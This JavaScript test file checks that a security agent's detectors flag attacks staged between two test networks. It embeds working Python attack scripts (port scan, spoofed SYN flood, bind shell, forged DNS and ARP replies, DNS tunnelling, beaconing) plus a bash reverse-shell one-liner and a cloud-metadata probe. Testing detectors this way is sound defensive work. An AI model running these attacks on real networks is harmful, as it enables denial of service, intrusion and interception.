import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { AttackedAgent } from "./harness/attacked-agent.js";
import { timeout } from "./harness/timeout.js";
import { INSIDE, OUTSIDE } from "./harness/two-networks.js";

/** Tries to connect to each port of a host. */
const SCAN = `
import socket, sys
for port in range(int(sys.argv[2]), int(sys.argv[3])):
    s = socket.socket(); s.settimeout(2)
    try: s.connect((sys.argv[1], port))
    except OSError: pass
    s.close()
`;

/** Sends that many SYNs to a port, from sources that nobody has: raw, with checksums. */
const FLOOD = `
import socket, struct, sys
to, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
def total(data):
    data += b"\\0" * (len(data) % 2)
    n = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    n = (n >> 16) + (n & 0xffff); n += n >> 16
    return ~n & 0xffff
for i in range(count):
    source = socket.inet_aton("198.51.100.%d" % (100 + i % 100)); dest = socket.inet_aton(to)
    tcp = struct.pack("!HHIIBBHHH", 1024 + i, port, i, 0, 0x50, 2, 1024, 0, 0)
    check = total(source + dest + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)
    tcp = tcp[:16] + struct.pack("!H", check) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), i, 0, 64, 6, 0, source, dest)
    raw.sendto(ip + tcp, (to, 0))
`;

/** Accepts and keeps what comes. */
const SERVER = `
import socket, sys
s = socket.create_server(("0.0.0.0", int(sys.argv[1])), backlog=128)
print("ready", flush=True)
kept = []
while True: kept.append(s.accept())
`;

/** Takes one connection, sends a command, prints the answer. */
const MASTER = `
import socket, sys
s = socket.create_server(("0.0.0.0", int(sys.argv[1])))
print("ready", flush=True)
c, _ = s.accept()
c.sendall(b"id -u\\nexit\\n")
print(c.recv(100))
`;

/** Gives a shell to whoever connects. */
const LISTENING_SHELL = `
import os, socket, sys
s = socket.create_server(("0.0.0.0", int(sys.argv[1])))
print("ready", flush=True)
c, _ = s.accept()
for fd in range(3): os.dup2(c.fileno(), fd)
os.execv("/bin/sh", ["sh"])
`;

/** Sends answers that nobody asked for, from port 53. */
const FORGED_ANSWERS = `
import socket, struct, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("0.0.0.0", 53))
for i in range(40):
    answer = struct.pack("!HHHHHH", i, 0x8180, 1, 0, 0, 0) + b"\\3www\\7example\\0" + struct.pack("!HH", 1, 1)
    s.sendto(answer, (sys.argv[1], int(sys.argv[2]) + i * int(sys.argv[3])))
`;

/** A DNS client that waits on one port and asks nothing. */
const WAITING_CLIENT = `
import socket, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("0.0.0.0", 5353))
print("ready", flush=True); time.sleep(60)
`;

/** Answers every query with no such name. */
const NO_NAMES = `
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("0.0.0.0", 53))
print("ready", flush=True)
while True:
    query, client = s.recvfrom(4096)
    s.sendto(query[:2] + b"\\x81\\x83" + query[4:], client)
`;

/** Carries data out in names. */
const TUNNEL = `
import base64, os, socket, struct, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect((sys.argv[1], 53)); s.settimeout(5)
for i in range(int(sys.argv[2])):
    label = base64.b32encode(os.urandom(30)).decode().lower().rstrip("=")
    name = b"".join(bytes([len(part)]) + part for part in [label.encode(), b"tunnel", b"example"]) + b"\\0"
    s.send(struct.pack("!HHHHHH", i, 0x100, 1, 0, 0, 0) + name + struct.pack("!HH", 16, 1))
    s.recv(4096)
`;

/** Comes back at even times. */
const BEACON = `
import socket, sys, time
for i in range(int(sys.argv[3])):
    start = time.monotonic()
    try: socket.create_connection((sys.argv[1], int(sys.argv[2])), 1).close()
    except OSError: pass
    time.sleep(1.2 - (time.monotonic() - start))
`;

/** Says that the other side of the wire has another MAC: ARP answers that nobody asked for. */
const FORGED_ARP = `
import socket, struct, sys, time
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806)); s.bind(("rf1", 0))
to = bytes.fromhex(sys.argv[3].replace(":", "")); forged = bytes.fromhex("020000000099")
for i in range(8):
    arp = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + forged + socket.inet_aton(sys.argv[1]) + to + socket.inet_aton(sys.argv[2])
    s.send(to + forged + struct.pack("!H", 0x0806) + arp)
    time.sleep(1.1)
`;

describe("the agent's detectors", () => {
  test("tell of a scan, a flood, a shell and a metadata address, with who did it", { timeout }, async () => {
    await using place = new AttackedAgent("attacks");
    await place.agent.start();

    await place.inside("sh", "-c", "timeout 1 bash --norc -c 'exec 3<>/dev/tcp/169.254.169.254/80' || true");
    const metadata = await place.alert("metadata");
    assert.equal(metadata.address, "169.254.169.254");
    assert.match(metadata.process?.exe ?? "", /bash$/);
    assert.ok((metadata.process?.ancestors ?? []).length > 0, "ancestry");

    await place.inside("python3", "-c", SCAN, OUTSIDE, "7000", "7025");
    const scanOut = await place.alert("portScanOut");
    assert.deepEqual([scanOut.address, scanOut.evidence["ports"]], [OUTSIDE, 20]);
    assert.match(scanOut.process?.exe ?? "", /python3/);

    await place.outside("python3", "-c", SCAN, INSIDE, "7000", "7025");
    // the scan before this one came from inside
    const scanIn = await place.alert("portScanIn", ({ address }) => address === OUTSIDE);
    assert.equal(scanIn.evidence["ports"], 15);

    await place.serve("inside", "python3", "-c", SERVER, "8080");
    await place.outside("python3", "-c", FLOOD, INSIDE, "8080", "400");
    const floodIn = await place.alert("synFloodIn");
    assert.equal(floodIn.port, 8080);
    assert.match(floodIn.process?.exe ?? "", /python3/);

    await place.inside("python3", "-c", FLOOD, OUTSIDE, "81", "400");
    const floodOut = await place.alert("synFloodOut");
    assert.equal(floodOut.port, 81);

    await place.serve("outside", "python3", "-c", MASTER, "4444");
    await place.inside("bash", "--norc", "-c", `(bash --norc -i >& /dev/tcp/${OUTSIDE}/4444 0>&1); true`); // its end is the other side's
    const shell = await place.alert("shell");
    assert.deepEqual([shell.evidence["kind"], shell.address, shell.port], ["reverse shell", OUTSIDE, 4444]);
    assert.equal(shell.response, "log");
  });

  test("tell a shell that listens from one that connects", { timeout }, async () => {
    await using place = new AttackedAgent("listening");
    await place.agent.start();
    await place.serve("inside", "python3", "-c", LISTENING_SHELL, "31337");
    const answer = `
import socket
c = socket.create_connection(("${INSIDE}", 31337)); c.sendall(b"echo got in; exit\\n"); print(c.recv(100))`;
    assert.match(await place.outside("python3", "-c", answer), /got in/);
    const shell = await place.alert("shell");
    assert.deepEqual([shell.evidence["kind"], shell.evidence["listeningPort"]], ["listening shell", 31_337]);
  });

  test("tell of tunnels and forgeries in the DNS, of beacons, and of a neighbour that lies", {
    timeout,
  }, async () => {
    await using place = new AttackedAgent("names", {
      beaconing: { settleSeconds: 0, minSeconds: 1, intervals: 5, jitter: 0.3 },
    });
    await place.agent.start();

    await place.serve("outside", "python3", "-c", NO_NAMES);
    await place.inside("python3", "-c", TUNNEL, OUTSIDE, "110");
    const tunnel = await place.alert("dnsTunnel");
    assert.deepEqual([tunnel.evidence["domain"], tunnel.evidence["names"]], ["tunnel.example", 100]);
    assert.match(tunnel.process?.exe ?? "", /python3/);

    await place.inside("python3", "-c", BEACON, OUTSIDE, "8443", "8");
    const beacon = await place.alert("beaconing");
    assert.equal(beacon.port, 8443);

    const mac = (await place.inside("cat", "/sys/class/net/rf0/address")).trim();
    await place.inside("sh", "-c", `timeout 1 bash --norc -c 'exec 3<>/dev/tcp/${OUTSIDE}/9' || true`);
    await place.outside("python3", "-c", FORGED_ARP, OUTSIDE, INSIDE, mac);
    const lie = await place.alert("arpSpoofing");
    assert.equal(lie.evidence["now"] ?? lie.evidence["mac"], "02:00:00:00:00:99");
    assert.equal(lie.address, OUTSIDE);
  });

  test("tell of answers that match no query, at a socket and at none", { timeout }, async () => {
    await using place = new AttackedAgent("forged");
    await place.agent.start();
    await place.outside("python3", "-c", FORGED_ANSWERS, INSIDE, "20000", "1");
    assert.equal((await place.alert("dnsSpoofing")).address, OUTSIDE);

    await using other = new AttackedAgent("forged-at-socket");
    await other.agent.start();
    await other.serve("inside", "python3", "-c", WAITING_CLIENT);
    await other.outside("python3", "-c", FORGED_ANSWERS, INSIDE, "5353", "0");
    assert.equal((await other.alert("dnsSpoofing")).address, OUTSIDE);
  });
});
